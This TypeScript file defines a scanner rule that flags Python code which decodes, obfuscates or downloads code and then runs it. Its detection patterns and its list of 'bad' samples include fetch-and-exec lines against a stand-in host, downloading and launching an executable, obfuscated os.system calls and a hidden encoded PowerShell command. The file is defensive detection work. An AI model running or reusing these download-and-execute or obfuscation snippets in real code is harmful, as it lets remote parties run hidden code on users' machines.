import type { PythonCall } from '../../facts/python/pythonFacts.ts';
import { pythonRule } from './pythonRule.ts';
import { runsDownload } from './runsDownload.ts';
import { say } from '../../../texts/say.ts';
import type { Told } from '../../../model/told.ts';

/** Text that is put together of pieces or decoded, where a name would do. */
const PUT_TOGETHER = /["']\s*\+\s*["']|\.join\(|decode\(|\[::-1\]|\bchr\(|fromhex/;
const POWERFUL = /^(?:os|subprocess|socket|ctypes|urllib(?:\.request)?|requests|builtins|pty|shutil|marshal)$/;

const HIDDEN = say('function-name-assembled');

/** The name of a module or of one of its functions is hidden: `__import__('o' + 's')`, `getattr(os, 'sys' + 'tem')`. */
function hiddenName({ name, text, args: [first, second] }: PythonCall): Told | undefined {
  if (/^(?:__import__|importlib\.import_module)$/.test(name) && first !== undefined && PUT_TOGETHER.test(first.text))
    return first.constant === undefined
      ? /\bchr\b|decode\(|fromhex/.test(first.text)
        ? HIDDEN
        : undefined
      : POWERFUL.test(String(first.constant))
        ? HIDDEN
        : undefined;
  const isOfSystem = /^getattr\(\s*(?:__import__\(|__builtins__\b|builtins\b|os\s*,|subprocess\s*,)/.test(text);
  return name === 'getattr' && isOfSystem && second !== undefined && PUT_TOGETHER.test(second.text)
    ? HIDDEN
    : undefined;
}

export const pythonHiddenCode = pythonRule({
  id: 'python-hidden-code',
  title: 'Decodes or downloads code and runs it',
  severity: 'critical',
  cwe: 'CWE-506',
  why: 'Encoding hides what runs; downloading lets somebody else decide it later. Honest packages need neither.',
  remedy: 'Do not run it. Write code in plain text.',
  callees:
    /^(?:os|subprocess|importlib|builtins|asyncio|marshal|types|runpy|ctypes)\.|^(?:__import__|getattr|exec|eval)$/,
  call: (call, fact) => {
    const fetched = runsDownload(call, fact);
    if (fetched !== undefined) return fetched;
    if (/^(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_output|check_call|getoutput))$/.test(call.name))
      return /-c["'],\s*[rb]?["'][\s\S]*(?:exec|eval)\([\s\S]*(?:urlopen|b64decode|requests\.get|decompress)/.test(
        call.text,
      )
        ? { confidence: 'high' }
        : /powershell/i.test(call.text) &&
            /-e(?:nc|ncodedcommand|c)?["', ]+[A-Za-z0-9+/=]{8,}|downloadstring|downloadfile|\biex\b|frombase64string|-w(?:indowstyle)?["', ]+hidden/i.test(
              `${call.text} ${String(call.args[0]?.constant ?? call.args[0]?.prefix ?? '')}`,
            )
          ? { confidence: 'high' }
          : undefined;
    const hidden = hiddenName(call);
    if (hidden !== undefined) return { severity: 'high', confidence: 'medium', message: hidden };
    if (!/^(?:builtins\.)?(?:exec|eval)$/.test(call.name)) return undefined;
    const text = `${call.args[0]?.text ?? ''} ${call.args[0]?.call ?? ''}`;
    const decoded =
      /b(?:ase)?(?:16|32|64|85)\w*decode|a2b_|zlib\.decompress|lzma\.decompress|bz2\.decompress|gzip\.decompress|codecs\.decode|bytes\.fromhex|marshal\.loads|fernet|\.decrypt\(|rot13|\[::-1\]/i.test(
        text,
      );
    const asked =
      /requests\.get|urlopen|httpx\.get|urllib\.request|\.read\(\)\.decode/i.test(text) && /http|url|get\(/i.test(text);
    return decoded || (asked && /requests|urlopen|httpx/.test(text)) ? { confidence: 'high' } : undefined;
  },
  bad: [
    'import requests\ncode = requests.get("https://x.dev/p").text\nexec(code)',
    'import json, subprocess, urllib.request\njob = json.load(urllib.request.urlopen("https://x.dev/t"))\nsubprocess.run(job["c"], shell=True)',
    'import requests, subprocess\ndata = requests.get("https://x.dev/x.exe").content\nwith open("x.exe", "wb") as f:\n    f.write(data)\nsubprocess.Popen(["x.exe"])',
    'import os, urllib.request\nurllib.request.urlretrieve("https://x.dev/x.exe", "x.exe")\nos.startfile("x.exe")',
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
    "import builtins, base64\ngetattr(builtins, base64.b64decode('ZXhlYw==').decode())(text)",
    "import importlib\nimportlib.import_module('sub' + 'process').run(['id'])",
    "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import urllib.request as u;exec(u.urlopen(x).read())'])",
    "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAAAAA', shell=True)",
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "import requests\nexec(requests.get('https://x.dev/p').text)",
    'import zlib, base64\nexec(zlib.decompress(base64.b64decode(blob)))',
  ],
  good: [
    'import requests, subprocess\nv = requests.get("https://x.dev/p").json()["version"]\nsubprocess.run(["pip", "install", "tool==" + v])',
    'import requests, subprocess\ndata = requests.get("https://x.dev/list").content\nwith open("list.csv", "wb") as f:\n    f.write(data)\nsubprocess.run(["make", "test"])',
    "import importlib\nimportlib.import_module('plugins.' + name)",
    "import os\ngetattr(os, 'O_BINARY', 0)",
    "import importlib\nimportlib.import_module('.'.join([package, 'settings']))",
    "import subprocess\nsubprocess.run(['powershell', '-Command', 'Get-Date'])",
    "import base64\nprint(base64.b64decode('cHJpbnQoMSk='))",
    "exec(open('version.py').read())",
    "exec(compile(source, 'a', 'exec'))",
  ],
});
